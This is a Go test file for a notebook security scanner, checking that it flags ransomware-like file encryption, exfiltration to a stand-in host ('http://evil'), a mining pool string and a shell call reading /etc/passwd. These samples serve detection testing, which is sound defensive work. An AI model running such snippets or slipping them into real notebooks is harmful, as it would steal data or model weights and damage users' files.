package nbscan

import (
	"strings"
	"testing"

	"repro/internal/nbformat"
	"repro/internal/rules"
	"repro/internal/scan"
)

func nb(sources ...string) *nbformat.Notebook {
	out := nbformat.New()
	for i, src := range sources {
		out.AppendCode("c"+string(rune('0'+i)), src)
	}
	return out
}

func classesOf(findings []scan.Finding) map[string]bool {
	m := map[string]bool{}
	for _, f := range findings {
		m[f.Class] = true
	}
	return m
}

func TestCleanNotebookPasses(t *testing.T) {
	clean := nb(
		`data = read_file("data/train.csv")`+"\n"+`print(len(data))`,
		`rows = split(data, "\n")`+"\n"+`print("rows", len(rows))`,
		`write_file("results/out.json", "{}")`,
	)
	clean.AppendMarkdown("md", "# Notes with scary words: encrypt shell xmrig")
	if findings := ScanNotebook(clean); len(findings) != 0 {
		t.Fatalf("clean notebook flagged: %+v", findings)
	}
}

func TestRansomwareShape(t *testing.T) {
	findings := ScanNotebook(nb(`key = "k"
for f in list_files("notebooks")
    write_file(f, encrypt(read_file(f), key))
end`))
	if !classesOf(findings)[rules.ClassRansomware] {
		t.Fatalf("ransomware shape missed: %+v", findings)
	}
	if TopSeverity(findings) != rules.SevCritical {
		t.Fatalf("severity = %s", TopSeverity(findings))
	}
}

func TestExfilShapes(t *testing.T) {
	direct := ScanNotebook(nb(`http_post("http://evil", read_file("models/w.bin"))`))
	if !classesOf(direct)[rules.ClassExfiltration] {
		t.Fatalf("direct exfil missed: %+v", direct)
	}
	packed := ScanNotebook(nb(`payload = b64encode(data)
http_post("http://evil", payload)`))
	// b64+post fires even without a visible read in the same cell.
	if !classesOf(packed)[rules.ClassExfiltration] {
		t.Fatalf("packed exfil missed: %+v", packed)
	}
}

func TestMinerStrings(t *testing.T) {
	findings := ScanNotebook(nb(`pool = "stratum+tcp://pool.evil:4444"`))
	if !classesOf(findings)[rules.ClassCryptomining] {
		t.Fatalf("miner string missed: %+v", findings)
	}
}

func TestShellEscape(t *testing.T) {
	findings := ScanNotebook(nb(`out = shell("cat /etc/passwd")`))
	if !classesOf(findings)[rules.ClassZeroDay] {
		t.Fatalf("shell escape missed: %+v", findings)
	}
}

func TestUnparseableCellSurfaced(t *testing.T) {
	findings := ScanNotebook(nb(`this is not (valid`))
	if len(findings) != 1 || findings[0].Severity != rules.SevInfo {
		t.Fatalf("unparseable cell: %+v", findings)
	}
	if !strings.Contains(findings[0].Evidence, "unscannable") {
		t.Fatalf("evidence = %q", findings[0].Evidence)
	}
}

func TestBenignReadWithoutPostNotFlagged(t *testing.T) {
	// read_file alone or print+read must not trip the exfil shape.
	findings := ScanNotebook(nb(`d = read_file("data/a.csv")
print(len(d))`))
	if classesOf(findings)[rules.ClassExfiltration] {
		t.Fatalf("benign read flagged: %+v", findings)
	}
}

func TestFindingsSortedBySeverity(t *testing.T) {
	findings := ScanNotebook(nb(
		`print(hostname(), env("USER"))`,     // low
		`write_file("f", encrypt("d", "k"))`, // critical
	))
	if len(findings) < 2 || findings[0].Severity != rules.SevCritical {
		t.Fatalf("ordering: %+v", findings)
	}
}

func TestRender(t *testing.T) {
	if !strings.Contains(Render(nil), "clean") {
		t.Fatal("clean render wrong")
	}
	out := Render(ScanNotebook(nb(`shell("id")`)))
	if !strings.Contains(out, "zero_day") || !strings.Contains(out, "findings") {
		t.Fatalf("render = %q", out)
	}
}
